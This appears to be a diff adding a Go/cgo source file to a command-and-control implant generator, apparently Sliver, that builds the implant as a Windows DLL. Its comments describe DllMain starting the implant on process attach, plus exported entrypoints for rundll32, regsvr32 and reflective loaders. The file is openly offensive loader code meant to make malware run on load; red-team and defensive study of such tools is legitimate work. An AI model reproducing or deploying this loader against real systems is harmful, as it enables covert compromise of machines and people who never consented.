@@ -0,0 +1,42 @@
+package main
+
+/*
+#include <windows.h>
+*/
+import "C"
+
+import (
+	"sync"
+)
+
+var startOnce sync.Once
+
+// DllMain - Entrypoint called by the Windows loader on load/unload and on
+// thread attach/detach. We only care about DLL_PROCESS_ATTACH, and we hand
+// off to the implant's real entrypoint on a background goroutine so we
+// don't block the loader lock.
+//export DllMain
+func DllMain(hModule C.HINSTANCE, reason C.DWORD, reserved C.LPVOID) C.BOOL {
+	if reason == C.DLL_PROCESS_ATTACH {
+		startOnce.Do(func() {
+			go RunSliver()
+		})
+	}
+	return C.TRUE
+}
+
+// Start - Exported entrypoint for `rundll32 {{.Name}}.dll,Start`
+//export Start
+func Start() {
+	startOnce.Do(func() {
+		go RunSliver()
+	})
+}
+
+// RunSliver - Exported entrypoint for reflective loaders; calls into the
+// implant's normal startup path on the calling thread. regsvr32 and plain
+// LoadLibrary loads start the implant through DllMain instead.
+//export RunSliver
+func RunSliver() {
+	main()
+}